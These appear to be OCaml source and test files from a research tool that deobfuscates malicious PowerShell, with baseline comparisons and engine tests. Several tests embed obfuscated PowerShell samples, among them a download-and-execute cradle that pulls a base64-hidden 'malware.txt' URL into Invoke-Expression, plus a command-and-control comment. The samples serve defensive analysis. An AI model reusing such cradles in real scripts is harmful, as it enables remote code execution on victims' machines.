    match kind with
    | 'D' ->
        let s = string_of_int (Value.to_int v) in
        if String.length s >= width then s
        else String.make (width - String.length s) '0' ^ s
    | 'X' ->
        let s = Printf.sprintf "%X" (Value.to_int v) in
        if String.length s >= width then s
        else String.make (width - String.length s) '0' ^ s
    | 'N' ->
        let decimals = if String.length spec > 1 then width else 2 in
        Printf.sprintf "%.*f" decimals (Value.to_float v)
    | _ -> Value.to_string v

let pad alignment s =
  let w = abs alignment in
  if String.length s >= w then s
  else if alignment > 0 then String.make (w - String.length s) ' ' ^ s
  else s ^ String.make (w - String.length s) ' '

let format template (args : Value.t list) =
  let arg i =
    match List.nth_opt args i with
    | Some v -> v
    | None -> fail "format index %d out of range (have %d args)" i (List.length args)
  in
  let buf = Buffer.create (String.length template) in
  let n = String.length template in
  let rec loop i =
    if i >= n then ()
    else
      match template.[i] with
      | '{' when i + 1 < n && template.[i + 1] = '{' ->
          Buffer.add_char buf '{';
          loop (i + 2)
      | '}' when i + 1 < n && template.[i + 1] = '}' ->
          Buffer.add_char buf '}';
          loop (i + 2)
      | '{' -> (
          match String.index_from_opt template i '}' with
          | None -> fail "unclosed '{' in format string"
          | Some close ->
              let body = String.sub template (i + 1) (close - i - 1) in
              let index_part, align_part, fmt_part =
                let before_fmt, fmt_part =
                  match String.index_opt body ':' with
                  | Some c ->
                      (String.sub body 0 c,
                       String.sub body (c + 1) (String.length body - c - 1))
                  | None -> (body, "")
                in
                match String.index_opt before_fmt ',' with
                | Some c ->
                    (String.sub before_fmt 0 c,
                     String.sub before_fmt (c + 1) (String.length before_fmt - c - 1),
                     fmt_part)
                | None -> (before_fmt, "", fmt_part)
              in
              let index =
                match int_of_string_opt (String.trim index_part) with
                | Some i when i >= 0 -> i
                | _ -> fail "bad format item {%s}" body
              in
              let rendered =
                let v = arg index in
                if fmt_part = "" then Value.to_string v
                else apply_numeric_format fmt_part v
              in
              let rendered =
                match int_of_string_opt (String.trim align_part) with
                | Some a when align_part <> "" -> pad a rendered
                | _ -> rendered
              in
              Buffer.add_string buf rendered;
              loop (close + 1))
      | c ->
          Buffer.add_char buf c;
          loop (i + 1)
  in
  loop 0;
  Buffer.contents buf
