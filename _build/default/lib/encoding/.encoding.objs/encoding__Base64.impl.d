lib/encoding/base64.ml: Buffer Char Printf String
