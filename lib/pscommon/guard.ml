(** Fault containment: guarded execution under resource deadlines. *)

type failure =
  | Parse_failure
  | Stack_exhausted
  | Timeout
  | Oom
  | Output_too_large
  | Interpreter_limit of string
  | Unexpected of string

let failure_label = function
  | Parse_failure -> "parse-failure"
  | Stack_exhausted -> "stack-exhausted"
  | Timeout -> "timeout"
  | Oom -> "out-of-memory"
  | Output_too_large -> "output-too-large"
  | Interpreter_limit _ -> "interpreter-limit"
  | Unexpected _ -> "unexpected"

let failure_to_string = function
  | Parse_failure -> "parse failure"
  | Stack_exhausted -> "stack exhausted"
  | Timeout -> "wall-clock deadline exceeded"
  | Oom -> "out of memory"
  | Output_too_large -> "output too large"
  | Interpreter_limit m -> "interpreter limit: " ^ m
  | Unexpected m -> "unexpected exception: " ^ m

exception Deadline_exceeded

(* let Chaos inject the real deadline exception without a module cycle *)
let () = Chaos.set_deadline_exn Deadline_exceeded

type deadline = float

let no_deadline = infinity
let now () = Unix.gettimeofday ()
let deadline_after s = if s = infinity then infinity else now () +. s

(* Innermost first; guards nest (batch file -> engine phase -> piece).  The
   stack is domain-local state: parallel batch workers each guard their own
   file, and a deadline installed in one domain must never be observed as
   ambient by another.  Each domain's stack starts empty. *)
let ambient : deadline list Domain.DLS.key = Domain.DLS.new_key (fun () -> [])

let ambient_deadline () =
  match Domain.DLS.get ambient with [] -> no_deadline | d :: _ -> d

let expired d = d < infinity && now () >= d
let remaining_s d = if d = infinity then infinity else d -. now ()
let ambient_remaining_s () = remaining_s (ambient_deadline ())
let check d = if expired d then raise Deadline_exceeded

(* Registration happens in module initialisers (single-domain, before any
   worker spawns), but an atomic keeps late registration from racing a
   concurrent classify in some future use. *)
let classifiers : (exn -> failure option) list Atomic.t = Atomic.make []

let rec register_classifier f =
  let cur = Atomic.get classifiers in
  if not (Atomic.compare_and_set classifiers cur (f :: cur)) then
    register_classifier f

let classify_exn e =
  match e with
  | Deadline_exceeded -> Timeout
  | Stack_overflow -> Stack_exhausted
  | Out_of_memory -> Oom
  | Chaos.Injected site -> Unexpected ("chaos injection at " ^ site)
  | e -> (
      match List.find_map (fun f -> f e) (Atomic.get classifiers) with
      | Some failure -> failure
      | None -> Unexpected (Printexc.to_string e))

let protect ?(deadline = no_deadline) ?max_output_bytes ?measure f =
  let effective = Float.min deadline (ambient_deadline ()) in
  if expired effective then Error Timeout
  else begin
    Domain.DLS.set ambient (effective :: Domain.DLS.get ambient);
    let result =
      (* the chaos probe fires inside the guarded extent, so an injected
         fault is classified exactly like a real one *)
      match
        Chaos.probe "guard";
        f ()
      with
      | v -> Ok v
      | exception e -> Error (classify_exn e)
    in
    Domain.DLS.set ambient
      (match Domain.DLS.get ambient with _ :: rest -> rest | [] -> []);
    match (result, max_output_bytes, measure) with
    | Ok v, Some cap, Some size when size v > cap -> Error Output_too_large
    | r, _, _ -> r
  end
