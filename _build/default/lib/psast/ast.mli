(** PowerShell abstract syntax trees.

    The node taxonomy mirrors [System.Management.Automation.Language]: the
    deobfuscator's logic is phrased in terms of the same node kinds the
    paper uses (PipelineAst, BinaryExpressionAst, ConvertExpressionAst,
    InvokeMemberExpressionAst, SubExpressionAst, …).  Every node carries its
    source extent, which is what allows recovery results to be spliced back
    {e in place}. *)

open Pscommon

type assign_op = Assign | Plus_assign | Minus_assign | Times_assign | Div_assign | Mod_assign

type binop =
  | Add | Sub | Mul | Div | Mod
  | Format  (** [-f] *)
  | Range  (** [..] *)
  | Eq | Ne | Gt | Ge | Lt | Le
  | Like | Notlike | Match | Notmatch
  | Replace  (** [-replace] and its c/i variants *)
  | Split | Join
  | Contains | Notcontains | In_op | Notin
  | Is_op | Isnot | As_op
  | Band | Bor | Bxor | Shl | Shr
  | And_op | Or_op | Xor_op

type unop =
  | Not  (** [!] / [-not] *)
  | Negate
  | Unary_plus
  | Bnot
  | Usplit  (** unary [-split] *)
  | Ujoin  (** unary [-join] *)
  | Incr  (** [++] *)
  | Decr

type quote_kind = Bare | Single_quoted | Double_quoted | Single_here | Double_here

type variable = {
  var_name : string;  (** name without [$]; ["env:path"] keeps the drive *)
  var_splat : bool;
}

type number = Int_lit of int | Float_lit of float

type invocation = Inv_normal | Inv_call  (** [&] *) | Inv_dot  (** [.] *)

type t = { node : node; extent : Extent.t }

and node =
  (* structure *)
  | Script_block of script_block  (** ScriptBlockAst *)
  | Named_block of string * t  (** NamedBlockAst: [begin]/[process]/[end] *)
  | Statement_block of t list  (** StatementBlockAst: [{ stmts }] *)
  | Pipeline of t list  (** PipelineAst *)
  | Assignment of assign_op * t * t  (** AssignmentStatementAst *)
  | If_stmt of (t * t) list * t option  (** IfStatementAst: clauses, else *)
  | While_stmt of t * t  (** WhileStatementAst *)
  | Do_while_stmt of t * t
  | Do_until_stmt of t * t
  | For_stmt of t option * t option * t option * t  (** ForStatementAst *)
  | Foreach_stmt of t * t * t  (** ForEachStatementAst: var, collection, body *)
  | Switch_stmt of t * (t * t) list * t option  (** value, cases, default *)
  | Function_def of string * string list * t  (** name, params, body block *)
  | Param_block of string list
  | Return_stmt of t option
  | Break_stmt
  | Continue_stmt
  | Throw_stmt of t option
  | Exit_stmt of t option
  | Try_stmt of t * (string list * t) list * t option
  | Trap_stmt of t
  (* commands *)
  | Command of command  (** CommandAst *)
  | Command_expression of t  (** CommandExpressionAst *)
  (* expressions *)
  | Binary_expr of binop * bool option * t * t
      (** BinaryExpressionAst; the flag records explicit case sensitivity:
          [Some true] for [-creplace], [Some false] for [-ireplace] *)
  | Unary_expr of unop * t  (** UnaryExpressionAst *)
  | Postfix_expr of unop * t  (** [$i++] *)
  | Convert_expr of string * t  (** ConvertExpressionAst: [\[type\] expr] *)
  | Type_literal of string  (** TypeExpressionAst *)
  | Variable_expr of variable  (** VariableExpressionAst *)
  | Member_access of t * member * bool  (** MemberExpressionAst; true = [::] *)
  | Invoke_member of t * member * t list * bool
      (** InvokeMemberExpressionAst; true = [::] *)
  | Index_expr of t * t  (** IndexExpressionAst *)
  | String_const of string * quote_kind  (** StringConstantExpressionAst *)
  | Expandable_string of string * expand_part list
      (** ExpandableStringExpressionAst *)
  | Number_const of number  (** ConstantExpressionAst *)
  | Array_literal of t list  (** ArrayLiteralAst *)
  | Array_expr of t list  (** ArrayExpressionAst: [@( )] *)
  | Hash_literal of (t * t) list  (** HashtableAst *)
  | Sub_expr of t list  (** SubExpressionAst: [$( )] *)
  | Paren_expr of t  (** ParenExpressionAst *)
  | Script_block_expr of script_block  (** ScriptBlockExpressionAst *)

and script_block = {
  sb_params : string list;  (** param(...) names, if any *)
  sb_statements : t list;
}

and command = {
  cmd_invocation : invocation;
  cmd_elements : command_element list;
}

and command_element =
  | Elem_name of t
  | Elem_parameter of string * t option  (** [-Name] or [-Name:value] *)
  | Elem_argument of t
  | Elem_redirection of string

and member = Member_name of string | Member_dynamic of t

and expand_part =
  | Part_text of string
  | Part_variable of variable * Extent.t
  | Part_subexpr of t

val make : node -> Extent.t -> t

val command_name : command -> string option
(** The bareword command name, when the command has one. *)

val kind_name : t -> string
(** The official AST class name ("PipelineAst", "BinaryExpressionAst", …) —
    the vocabulary the paper's method is written in. *)

val children : t -> t list

val fold_post_order : ('a -> t -> 'a) -> 'a -> t -> 'a
(** Children before parents — the traversal that guarantees nested pieces
    are recovered before the node containing them (paper §III-B5). *)

val iter_post_order : (t -> unit) -> t -> unit

val fold_pre_order : ('a -> t -> 'a) -> 'a -> t -> 'a

val fold_post_order_with_ancestors : (t list -> 'a -> t -> 'a) -> 'a -> t -> 'a
(** Post-order fold that also passes the chain of ancestors (nearest
    first) — variable tracing needs the parent (assignment detection) and
    the enclosing loop/conditional context. *)

val count_nodes : t -> int

val text : string -> t -> string
(** The node's text in the original source. *)
