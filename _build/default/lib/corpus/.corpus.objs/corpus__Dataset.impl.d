lib/corpus/dataset.ml: Buffer Char Filename Generator List Obfuscator Out_channel Printf String Sys
