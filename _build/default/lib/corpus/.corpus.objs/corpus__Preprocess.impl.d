lib/corpus/preprocess.ml: Buffer Digest Hashtbl List Printf Pscommon Pslex Psparse Rng Strcase String
