(** PowerShell's built-in command aliases.

    Alias obfuscation (L1) swaps a cmdlet name for one of its aliases; the
    token phase reverses the swap using this table. *)

val resolve : string -> string option
(** [resolve "iex"] is [Some "Invoke-Expression"]; caseless. *)

val is_alias : string -> bool

val aliases_of : string -> string list
(** All aliases of a cmdlet (caseless lookup); used by the obfuscator. *)

val canonical_case : string -> string option
(** Canonical spelling of a known cmdlet name, e.g.
    [canonical_case "invoke-expression" = Some "Invoke-Expression"].  Used by
    random-case recovery on commands. *)

val known_cmdlets : string list
(** Every cmdlet this table knows about, canonical casing. *)
