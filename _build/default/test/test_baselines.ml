(* Tests for the baseline re-implementations: each tool must exhibit its
   documented mechanism and failure modes — that is what the comparison
   experiments rest on. *)

open Pscommon

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let run tool src = (tool.Baselines.Tool.deobfuscate src).Baselines.Tool.result
let contains needle s = Strcase.contains ~needle s

(* ---------- PSDecode ---------- *)

let test_psdecode_strips_ticks () =
  check_b "ticks gone" true
    (not (String.contains (run Baselines.Psdecode.tool "wri`te-host hi") '`'))

let test_psdecode_captures_literal_iex () =
  check_s "layer captured" "write-host hi"
    (String.trim (run Baselines.Psdecode.tool "iex ('write-host'+' hi')"))

let test_psdecode_misses_obfuscated_iex () =
  let src = "& ('ie'+'x') ('write-host'+' hi')" in
  let out = run Baselines.Psdecode.tool src in
  check_b "layer missed" true (contains "ie'+'x" out)

let test_psdecode_peels_nested_literal_layers () =
  let inner = "write-output 'deep'" in
  let l1 = Printf.sprintf "iex (('%s'))" (Strcase.replace_all ~needle:"'" ~replacement:"''" inner) in
  let l2 = Printf.sprintf "iex ('%s')" (Strcase.replace_all ~needle:"'" ~replacement:"''" l1) in
  let out = run Baselines.Psdecode.tool l2 in
  check_b "inner reached" true (contains "deep" out)

(* ---------- PowerDrive ---------- *)

let test_powerdrive_merges_concats () =
  check_b "merged" true
    (contains "'writehost'" (run Baselines.Powerdrive.tool "$x = 'write' + 'host'"))

let test_powerdrive_breaks_multiline () =
  (* the one-line transform joins statements without separators: Fig 8(b) *)
  let src = "$a = 1\n$b = 2" in
  let out = run Baselines.Powerdrive.tool src in
  check_b "no newlines" true (not (String.contains out '\n'));
  check_b "syntax broken" true (not (Psparse.Parser.is_valid_syntax out))

let test_powerdrive_single_layer_only () =
  let inner = "iex ('write-output'+' 1')" in
  let outer =
    Printf.sprintf "iex ('%s')" (Strcase.replace_all ~needle:"'" ~replacement:"''" inner)
  in
  let out = run Baselines.Powerdrive.tool outer in
  (* one layer peeled: the inner iex remains visible, unexecuted *)
  check_b "one layer" true (contains "iex" out)

(* ---------- PowerDecode ---------- *)

let test_powerdecode_keeps_ticks () =
  check_b "ticks kept" true (String.contains (run Baselines.Powerdecode.tool "wri`te-host hi") '`')

let test_powerdecode_resolves_replace_chains () =
  let out = run Baselines.Powerdecode.tool "$u = 'hxxp://x'.replace('hxxp','http')" in
  check_b "resolved" true (contains "'http://x'" out)

let test_powerdecode_multilayer_literal () =
  (* the peel loop unwraps nested literal layers; note that the concat
     regex, like the real tool's, mangles doubled quotes inside payload
     strings — the inner content surfaces but may arrive corrupted *)
  let inner = "iex ('write-output'+' 9')" in
  let outer =
    Printf.sprintf "iex ('%s')" (Strcase.replace_all ~needle:"'" ~replacement:"''" inner)
  in
  let out = run Baselines.Powerdecode.tool outer in
  check_b "outer layer peeled" true (not (contains "''" out));
  check_b "payload surfaced" true (contains "write-output" out)

(* ---------- Li et al. ---------- *)

let test_li_replaces_objects_with_type_names () =
  let out = run Baselines.Li_etal.tool "(New-Object Net.WebClient).DownloadString($u)" in
  check_b "famous bug" true (contains "(System.Net.WebClient)" out)

let test_li_wrong_pshome () =
  let out = run Baselines.Li_etal.tool ".($pshome[4]+$pshome[30]+'x') 'write-host 1'" in
  check_b "wrong recovery" true (not (contains "iex" out));
  check_b "replaced with something" true (contains "\"" out)

let test_li_global_replacement () =
  (* the same text in another context is rewritten too *)
  let src = "('a'+'b')\nwrite-host \"literal: ('a'+'b')\"" in
  let out = run Baselines.Li_etal.tool src in
  check_b "string context also replaced" true
    (contains "literal: \"ab\"" out || contains "literal: (\"ab\")" out)

let test_li_skips_variable_pieces () =
  let src = "($prefix + 'tail')" in
  check_s "kept" src (String.trim (run Baselines.Li_etal.tool src))

let test_li_skips_assignment_position () =
  let src = "$x = ('a'+'b')" in
  let out = run Baselines.Li_etal.tool src in
  (* nested paren pipeline is reachable, direct RHS is not; accept either
     but the assignment itself must survive *)
  check_b "assignment kept" true (contains "$x =" out)

(* ---------- override machinery ---------- *)

let test_override_literal_flag () =
  let outcome = Baselines.Override.run_with_override "iex 'write-output 1'" in
  check_i "captured" 1 (List.length outcome.Baselines.Override.captured);
  let outcome2 = Baselines.Override.run_with_override "& ('ie'+'x') 'write-output 1'" in
  check_i "not captured" 0 (List.length outcome2.Baselines.Override.captured)

let test_override_dead_network () =
  let outcome =
    Baselines.Override.run_with_override
      "(New-Object Net.WebClient).DownloadString('http://dead') ; iex 'write-output 1'"
  in
  (* the download fails, so execution stops before reaching the iex *)
  check_i "no capture after crash" 0 (List.length outcome.Baselines.Override.captured);
  check_b "crash flagged" true outcome.Baselines.Override.failed

let test_tool_list () =
  check_i "five tools" 5 (List.length Baselines.All_tools.all);
  check_b "ours last" true
    ((List.nth Baselines.All_tools.all 4).Baselines.Tool.name = "Invoke-Deobfuscation")

let suite =
  [
    ("psdecode strips ticks", `Quick, test_psdecode_strips_ticks);
    ("psdecode captures literal iex", `Quick, test_psdecode_captures_literal_iex);
    ("psdecode misses obfuscated iex", `Quick, test_psdecode_misses_obfuscated_iex);
    ("psdecode peels nested layers", `Quick, test_psdecode_peels_nested_literal_layers);
    ("powerdrive merges concats", `Quick, test_powerdrive_merges_concats);
    ("powerdrive breaks multiline", `Quick, test_powerdrive_breaks_multiline);
    ("powerdrive single layer", `Quick, test_powerdrive_single_layer_only);
    ("powerdecode keeps ticks", `Quick, test_powerdecode_keeps_ticks);
    ("powerdecode resolves replace", `Quick, test_powerdecode_resolves_replace_chains);
    ("powerdecode multilayer literal", `Quick, test_powerdecode_multilayer_literal);
    ("li object type names", `Quick, test_li_replaces_objects_with_type_names);
    ("li wrong pshome", `Quick, test_li_wrong_pshome);
    ("li global replacement", `Quick, test_li_global_replacement);
    ("li skips variables", `Quick, test_li_skips_variable_pieces);
    ("li skips assignment rhs", `Quick, test_li_skips_assignment_position);
    ("override literal flag", `Quick, test_override_literal_flag);
    ("override dead network", `Quick, test_override_dead_network);
    ("tool list", `Quick, test_tool_list);
  ]
