lib/baselines/powerdecode.ml: Lazy Option Override Pscommon Regexen Strcase String Tool
