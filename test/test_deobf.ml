(* Tests for the core contribution: token phase, variable tracing, AST
   recovery, multi-layer unwrapping, rename/reformat, scoring, and the
   engine's semantics-preservation guarantee. *)

open Pscommon

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let deobf src = (Deobf.Engine.run src).Deobf.Engine.output

let deobf_no_rename src =
  (Deobf.Engine.run
     ~options:{ Deobf.Engine.default_options with rename = false; reformat = false }
     src)
    .Deobf.Engine.output

let contains needle s = Strcase.contains ~needle s

(* ---------- token phase ---------- *)

let test_token_phase_ticks () =
  check_s "ticks removed" "Invoke-Expression '1'"
    (Deobf.Token_phase.run "i`Nv`OKe-eXp`RessIon '1'")

let test_token_phase_alias () =
  check_s "alias expanded" "Invoke-Expression '1'" (Deobf.Token_phase.run "iex '1'");
  check_s "gci expanded" "Get-ChildItem" (Deobf.Token_phase.run "GCI")

let test_token_phase_case () =
  check_s "command canonicalised" "Write-Host hello"
    (Deobf.Token_phase.run "wRiTe-hOSt hello");
  check_s "keyword lowered" "if ($a) { 1 }" (Deobf.Token_phase.run "IF ($a) { 1 }");
  check_s "operator lowered" "'a' -split 'b'" (Deobf.Token_phase.run "'a' -SpLiT 'b'")

let test_token_phase_members_types () =
  let out = Deobf.Token_phase.run "[tExT.eNcOdING]::unicode.gEtStRiNg($x)" in
  check_b "type canonical" true (String.length out > 0);
  check_s "member case" "[Text.Encoding]::Unicode.GetString($x)" out

let test_token_phase_preserves_strings () =
  check_s "strings untouched" "'IeX kEeP mE'" (Deobf.Token_phase.run "'IeX kEeP mE'")

let test_token_phase_keeps_invalid_input () =
  let bad = "'unterminated" in
  check_s "returned unchanged" bad (Deobf.Token_phase.run bad)

(* ---------- recovery ---------- *)

let test_recover_concat () =
  check_s "concat" "'hello'" (String.trim (deobf_no_rename "('he'+'llo')"))

let test_recover_format () =
  check_s "reorder" "'write-host hello'"
    (String.trim (deobf_no_rename {|("{2}{0}{1}" -f 'ost h', 'ello', 'write-h')|}))

let test_recover_in_assignment () =
  check_s "assignment rhs" "$fmp = 'ab'"
    (String.trim (deobf_no_rename "$fmp = 'a'+'b'"))

let test_recover_in_pipe () =
  check_s "pipe element" "'ab'|Out-Null"
    (String.trim (deobf_no_rename "'a'+'b'|out-null"))

let test_variable_tracing () =
  let src = "$a = 'mal'\n$b = $a + 'ware'\nwrite-host $b" in
  let out = deobf_no_rename src in
  check_b "value propagated" true (contains "'malware'" out)

let test_tracing_skips_loop_variables () =
  (* a variable assigned in a loop must not be substituted *)
  let src = "foreach ($i in 1..3) { $x = $i }\nwrite-host $x" in
  let out = deobf_no_rename src in
  check_b "usage kept" true (contains "$x" out)

let test_tracing_skips_conditional () =
  let src = "if ($flag) { $v = 'a' } else { $v = 'b' }\nwrite-host $v" in
  let out = deobf_no_rename src in
  check_b "conditional value not propagated" true (contains "$v" out)

let static_options =
  { Deobf.Engine.default_options with
    rename = false;
    reformat = false;
    recovery =
      { Deobf.Engine.default_options.Deobf.Engine.recovery with
        Deobf.Engine.use_dynamic = false } }

let test_tracing_eviction_after_loop () =
  (* $x known before the loop, mutated inside: the static tracer must evict
     it so the stale pre-loop value is never substituted downstream.  (The
     dynamic stage then folds the loop to its final value — that path keeps
     its own tests in the provenance suite.) *)
  let src = "$x = 'start'\nforeach ($i in 1..2) { $x += $i }\nwrite-host $x" in
  let out = (Deobf.Engine.run ~options:static_options src).Deobf.Engine.output in
  check_b "evicted" true (contains "write-host $x" out);
  check_b "stale value not substituted" true (not (contains "'start'," out));
  let full = deobf_no_rename src in
  check_b "dynamic stage folds final value" true (contains "start12" full)

let test_unknown_variable_piece_kept () =
  let src = "($unknown + 'tail')" in
  check_s "kept" src (String.trim (deobf_no_rename src))

let test_blocklist_prevents_execution () =
  let src = "(New-Object Net.WebClient).DownloadString('http://x') + 'y'" in
  let out = deobf_no_rename src in
  check_b "network piece kept" true (contains "DownloadString" out)

let test_byte_results_kept () =
  (* binary payloads have no string form: keep the piece (§IV-C4) *)
  let src = "$bytes = [Convert]::FromBase64String('TVqQAA==')" in
  let out = deobf_no_rename src in
  check_b "FromBase64String kept" true (contains "FromBase64String" out)

let test_write_host_not_erased () =
  (* executing a pipeline with no output must not replace it *)
  let src = "write-host hello" in
  check_s "kept" "Write-Host hello" (String.trim (deobf_no_rename src))

(* ---------- multilayer ---------- *)

let test_multilayer_literal_iex () =
  let out = deobf_no_rename "iex ('write-host'+' hi')" in
  check_s "unwrapped" "Write-Host hi" (String.trim out)

let test_multilayer_obfuscated_iex () =
  let out = deobf_no_rename ".($pshome[4]+$pshome[30]+'x') ('write-host'+' hi')" in
  check_s "unwrapped" "Write-Host hi" (String.trim out)

let test_multilayer_pipe_form () =
  let out = deobf_no_rename "('write-host'+' hi') | iex" in
  check_s "unwrapped" "Write-Host hi" (String.trim out)

let test_multilayer_powershell_enc () =
  let b64 = Encoding.Base64.encode (Encoding.Utf16.encode "write-host enc") in
  let out = deobf_no_rename (Printf.sprintf "powershell -eNc %s" b64) in
  check_s "decoded" "Write-Host enc" (String.trim out)

let test_multilayer_nested () =
  let rng = Rng.of_int 3 in
  let layered = Obfuscator.Obfuscate.multilayer rng 3 "write-output 'core'" in
  let result = Deobf.Engine.run layered in
  check_b "layers unwrapped" true
    (result.Deobf.Engine.stats.Deobf.Recover.layers_unwrapped >= 3);
  check_b "core visible" true (contains "'core'" result.Deobf.Engine.output)

let test_whitespace_encoding_static_limit () =
  (* the paper's §V-C limitation: the loop-based whitespace decoder cannot
     be traced *statically*.  The provenance-guided dynamic stage now folds
     it, so the limitation only holds with dynamic recovery disabled. *)
  let rng = Rng.of_int 5 in
  let ob = Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_whitespace "write-host hi" in
  let static_only =
    (Deobf.Engine.run
       ~options:
         { Deobf.Engine.default_options with
           recovery =
             { Deobf.Engine.default_options.Deobf.Engine.recovery with
               Deobf.Engine.use_dynamic = false } }
       ob)
      .Deobf.Engine.output
  in
  check_b "payload still hidden statically" true
    (not (contains "write-host hi" static_only));
  check_b "payload recovered dynamically" true (contains "write-host hi" (deobf ob))

(* ---------- rename / reformat ---------- *)

let test_rename_random_names () =
  let out = Deobf.Rename.rename "$xK9dQz2 = 1; $pQ7wY = $xK9dQz2 + 1" in
  check_b "var0" true (contains "$var0" out);
  check_b "var1" true (contains "$var1" out)

let test_rename_keeps_readable_names () =
  (* vowel ratio of "messageresult" is ~38%, inside the paper's band *)
  let src = "$message = 1; $result = $message" in
  check_s "unchanged" src (Deobf.Rename.rename src)

let test_rename_functions () =
  let out =
    Deobf.Rename.rename
      "function Xk9QzW2v { 'x' }\n$JQz7Kp9 = Xk9QzW2v"
  in
  check_b "func0" true (contains "function func0" out);
  check_b "call site renamed" true (contains "= func0" out)

let test_rename_updates_interpolations () =
  let out = Deobf.Rename.rename "$xK9dQz2 = 5; $wQ93km = 2; write-host \"v=$xK9dQz2\"" in
  check_b "string updated" true (contains "\"v=$var0\"" out)

let test_names_look_random_stats () =
  check_b "random consonants" true (Deobf.Rename.names_look_random [ "xkcdqzw"; "pqrst" ]);
  check_b "english-like" false (Deobf.Rename.names_look_random [ "message"; "result" ]);
  check_b "specials" true (Deobf.Rename.names_look_random [ "!!!"; "@#$" ]);
  check_b "tiny sample inconclusive" false (Deobf.Rename.names_look_random [ "name" ]);
  check_b "empty" false (Deobf.Rename.names_look_random [])

let test_reformat_keeps_comments () =
  let out = Deobf.Rename.reformat "write-host x # C2 at http://evil.example/c2" in
  check_b "comment survives" true (contains "# C2 at http://evil.example/c2" out)

let test_report_analyze () =
  let r = Deobf.Report.analyze "iex ('write-host '+'hi')" in
  check_b "changed" true r.Deobf.Report.changed;
  check_b "score drops" true (r.Deobf.Report.score_after < r.Deobf.Report.score_before);
  check_b "layer counted" true (r.Deobf.Report.layers_unwrapped >= 1);
  let json = Deobf.Report.to_json r in
  check_b "json mentions output" true (contains "\"output\"" json);
  check_b "json escapes newline" true (contains "\\n" json)

let test_reformat_collapses_whitespace () =
  check_s "single spaces" "write-host a b\n"
    (Deobf.Rename.reformat "write-host     a      b")

let test_reformat_indents_blocks () =
  let out = Deobf.Rename.reformat "if ($x) {\nwrite-host deep\n}" in
  check_b "indented" true (contains "\n  Write-Host deep" out || contains "\n  write-host deep" out)

let test_reformat_preserves_member_adjacency () =
  let src = "(New-Object Net.WebClient).DownloadString('http://x')" in
  let out = Deobf.Rename.reformat src in
  check_b "still valid" true (Psparse.Parser.is_valid_syntax out);
  check_b "no space before dot" true (contains ").downloadstring" out)

let test_reformat_keeps_for_semicolons () =
  let out = Deobf.Rename.reformat "for ($i=0; $i -lt 3; $i++) { $i }" in
  check_b "valid" true (Psparse.Parser.is_valid_syntax out)

(* ---------- score ---------- *)

let detect = Deobf.Score.detect

let test_score_detects_techniques () =
  check_b "ticking" true (detect "wri`te-host hi").Deobf.Score.ticking;
  check_b "alias" true (detect "iex '1'").Deobf.Score.alias;
  check_b "random case" true (detect "wRiTe-hOSt x").Deobf.Score.random_case;
  check_b "whitespacing" true (detect "write-host        x").Deobf.Score.whitespacing;
  check_b "concat" true (detect "('a'+'b')").Deobf.Score.concat;
  check_b "reorder" true (detect {|("{1}{0}" -f 'b','a')|}).Deobf.Score.reorder;
  check_b "replace" true (detect "'axc'.Replace('x','b')").Deobf.Score.replace;
  check_b "reverse" true (detect "-join ('cba'[-1..-3])").Deobf.Score.reverse;
  check_b "bxor" true (detect "$_ -bxor 0x4B").Deobf.Score.enc_bxor;
  check_b "base64" true
    (detect "[Convert]::FromBase64String('eA==')").Deobf.Score.enc_base64;
  check_b "radix" true
    (detect "[char][convert]::ToInt32('68',16)").Deobf.Score.enc_radix;
  check_b "securestring" true
    (detect "ConvertTo-SecureString -String 'x' -Key (0..31)").Deobf.Score.secure_string;
  check_b "deflate" true
    (detect "[IO.Compression.DeflateStream]").Deobf.Score.compress

let test_score_clean_script_zero () =
  check_i "clean" 0 (Deobf.Score.score "Write-Host hello");
  check_i "clean assignment" 0 (Deobf.Score.score "$path = 'C:\\temp\\a.txt'")

let test_score_levels_weighting () =
  (* one L1 + one L3 technique = 1 + 3 *)
  let s = Deobf.Score.score "ie`x ([Convert]::FromBase64String('eA=='))" in
  check_b "weighted" true (s >= 4)

let test_score_counts_each_technique_once () =
  let one = Deobf.Score.score "('a'+'b')" in
  let twice = Deobf.Score.score "('a'+'b'); ('c'+'d')" in
  check_i "same" one twice

(* ---------- engine guarantees ---------- *)

let test_engine_invalid_input_unchanged () =
  let bad = "if (1) { no closing" in
  let result = Deobf.Engine.run bad in
  check_s "unchanged" bad result.Deobf.Engine.output;
  check_b "flagged" true (not result.Deobf.Engine.changed)

let test_engine_output_always_valid () =
  let rng = Rng.of_int 77 in
  for _ = 1 to 25 do
    let _, clean = Corpus.Templates.generate rng in
    let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
    let out = deobf ob in
    check_b "valid output" true (Psparse.Parser.is_valid_syntax out)
  done

let test_engine_idempotent_on_clean () =
  let clean = "Write-Host hello\n$path = 'C:\\x'\n" in
  let once = deobf clean in
  let twice = deobf once in
  check_s "stable" once twice

let test_paper_case_study () =
  let case =
    "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
     $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
     $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
     $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
     .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"
  in
  let out = deobf case in
  check_b "command recovered" true (contains "Write-Host hello" out);
  check_b "url recovered" true (contains "'https://test.com/malware.txt'" out);
  check_b "renamed" true (contains "$var0" out);
  check_b "network piece kept" true (contains "DownloadString" out)

let test_large_sample_performance () =
  (* a 3-layer sample over a multi-statement script grows past 100 KB;
     deobfuscation must stay within a sane budget *)
  let rng = Rng.of_int 515 in
  let clean =
    String.concat "\n"
      (List.init 25 (fun _ -> snd (Corpus.Templates.generate rng)))
  in
  let layered = Obfuscator.Obfuscate.multilayer rng 3 clean in
  check_b "large input" true (String.length layered > 20_000);
  let t0 = Unix.gettimeofday () in
  let result = Deobf.Engine.run layered in
  let elapsed = Unix.gettimeofday () -. t0 in
  check_b "completes quickly" true (elapsed < 20.0);
  check_b "unwrapped" true
    (result.Deobf.Engine.stats.Deobf.Recover.layers_unwrapped >= 3)

let prop_deobf_preserves_network_behavior =
